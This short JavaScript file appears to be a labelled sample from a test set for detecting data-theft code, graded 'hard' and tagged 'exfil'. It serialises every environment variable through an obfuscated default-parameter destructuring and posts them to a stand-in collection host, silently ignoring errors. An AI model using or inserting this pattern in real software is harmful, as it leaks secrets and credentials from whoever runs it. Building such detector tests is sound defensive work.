// evasion: the environment destructured from process in a default parameter (function send({ env } = process)), serialised and posted
// grade: hard; does: exfil
'use strict';
async function send(url, { env } = process) {
  const payload = JSON.stringify(env);
  await fetch(url, { method: 'POST', body: payload });
}

send('https://hooks.example.org/collect').catch(() => {});
